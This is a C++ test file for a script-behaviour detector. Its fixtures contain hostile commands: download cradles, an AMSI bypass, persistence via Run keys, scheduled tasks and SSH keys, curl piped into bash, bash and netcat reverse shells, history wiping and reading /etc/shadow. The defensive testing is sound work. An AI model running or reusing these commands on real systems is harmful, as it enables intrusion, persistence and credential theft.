// What decoded code does: each family of findings on the line shapes droppers use, the evidence
// line, and silence on an ordinary script.
#include <algorithm>
#include <catch2/catch.hpp>
#include <string>

#include "kensa/script/behaviour.h"

namespace kensa::script {
namespace {

bool Has(const std::vector<ScriptFinding>& findings, std::string_view kind, std::string_view keyword) {
  return std::any_of(findings.begin(), findings.end(),
                     [&](const ScriptFinding& f) { return f.kind == kind && f.keyword == keyword; });
}

std::vector<ScriptFinding> Find(std::string_view text, Language language) {
  return FindBehaviourInText(text, language, 0, 100);
}

TEST_CASE("Download cradles are found with their line as evidence") {
  const auto ps = Find("$w = New-Object Net.WebClient\n$w.DownloadFile('http://a.example/x.exe', \"$env:TEMP\\x.exe\")",
                       Language::kPowerShell);
  REQUIRE(Has(ps, "download_cradle", "Net.WebClient.DownloadFile"));
  CHECK(ps[0].line == "$w.DownloadFile('http://a.example/x.exe', \"$env:TEMP\\x.exe\")");
  CHECK(Has(Find("iwr http://a.example/x -OutFile x.exe", Language::kPowerShell), "download_cradle", "Invoke-WebRequest"));
  CHECK(Has(Find("Start-BitsTransfer -Source http://a.example/x", Language::kPowerShell), "download_cradle",
            "Start-BitsTransfer"));
  CHECK(Has(Find("certutil -urlcache -split -f http://a.example/x.exe x.exe", Language::kBatch), "download_cradle",
            "certutil -urlcache"));
  CHECK(Has(Find("bitsadmin /transfer j /download /priority high http://a.example/x c:\\x", Language::kBatch),
            "download_cradle", "bitsadmin /transfer"));
  CHECK(Has(Find("Set x = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")", Language::kVbScript),
            "download_cradle", "XMLHTTP + ADODB.Stream"));
  // certutil alone (hashing a file) is no download.
  CHECK_FALSE(Has(Find("certutil -hashfile x.exe SHA256", Language::kBatch), "download_cradle", "certutil -urlcache"));
}

TEST_CASE("Execution, AMSI bypass and persistence are found") {
  const auto ps = Find(
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n"
      "Start-Process $env:TEMP\\x.exe\n"
      "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value x\n"
      "Register-ScheduledTask -TaskName u -Action $a\n",
      Language::kPowerShell);
  CHECK(Has(ps, "amsi_bypass", "AmsiUtils"));
  CHECK(Has(ps, "amsi_bypass", "amsiInitFailed"));
  CHECK(Has(ps, "execution", "Start-Process"));
  CHECK(Has(ps, "persistence", "Run key"));
  CHECK(Has(ps, "persistence", "Register-ScheduledTask"));
  CHECK(Has(Find("schtasks /create /sc minute /tn u /tr c:\\x.exe", Language::kBatch), "persistence", "schtasks /create"));
  const auto vbs = Find("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c x\", 0", Language::kVbScript);
  CHECK(Has(vbs, "execution", "WScript.Shell.Run"));
  CHECK(Has(vbs, "execution", "cmd /c"));
  const auto js = Find("var k = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u';", Language::kJScript);
  CHECK(Has(js, "persistence", "Run key"));
}

TEST_CASE("Keywords are whole words: iex inside another word is nothing") {
  const auto findings = Find("$suffix = 'iexplore'; $x.Runtime = 1; Write-Host $piex", Language::kPowerShell);
  CHECK(findings.empty());
}

TEST_CASE("An ordinary script has no findings") {
  const auto findings = Find(
      "param([string]$Path)\nGet-ChildItem $Path | Where-Object { $_.Length -gt 1MB } | Sort-Object Length\n"
      "Write-Host \"done\"\n",
      Language::kPowerShell);
  CHECK(findings.empty());
}

TEST_CASE("FindBehaviour reports unwrapped Invoke-Expression and decoded -EncodedCommand layers") {
  Deobfuscation d;
  d.texts.push_back({Language::kCommandLine, "powershell -enc AAAA", 0, ""});
  d.texts.push_back({Language::kPowerShell, "Write-Host 1", 0, "encoded_command"});
  d.layers.push_back({"encoded_command", Language::kPowerShell, 1, 12, "Write-Host 1", 1});
  const auto findings = FindBehaviour(d, "powershell -enc AAAA");
  REQUIRE(Has(findings, "encoded_command", "-EncodedCommand"));
  const auto it = std::find_if(findings.begin(), findings.end(), [](const auto& f) { return f.kind == "encoded_command"; });
  CHECK(it->text_index == 0);
  CHECK(it->line == "Write-Host 1");
}

TEST_CASE("Shell scripts: downloads, pipes into a shell, reverse shells, persistence, evasion, credentials") {
  const auto found = Find("wget -q http://198.51.100.23/k -O /tmp/k\n"
                          "curl -s http://a.example/i.sh | bash\n"
                          "chmod 755 /tmp/k\n"
                          "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"
                          "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.23 4444 > /tmp/f\n"
                          "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys\n"
                          "systemctl enable dbus-helper.service\n"
                          "unset HISTFILE; history -c\n"
                          "cat /etc/shadow > /tmp/s\n",
                          Language::kShell);
  CHECK(Has(found, "download_cradle", "wget"));
  CHECK(Has(found, "download_cradle", "curl"));
  CHECK(Has(found, "execution", "piped into a shell"));
  CHECK(Has(found, "execution", "chmod +x in a temporary folder"));
  CHECK(Has(found, "reverse_shell", "/dev/tcp"));
  CHECK(Has(found, "reverse_shell", "mkfifo + nc"));
  CHECK(Has(found, "persistence", "SSH authorized_keys"));
  CHECK(Has(found, "persistence", "systemd unit"));
  CHECK(Has(found, "defense_evasion", "HISTFILE off"));
  CHECK(Has(found, "defense_evasion", "history -c"));
  CHECK(Has(found, "credential_access", "/etc/shadow"));
  // An ordinary maintenance script: none of these.
  const auto quiet = Find("#!/bin/sh\nset -e\ntar czf /backup/etc.tgz /etc\nfind /var/tmp -mtime +7 -delete\n"
                          "crontab -l > /backup/crontab.txt\nlogger 'backup done'\n",
                          Language::kShell);
  CHECK(quiet.empty());
}

}  // namespace
}  // namespace kensa::script
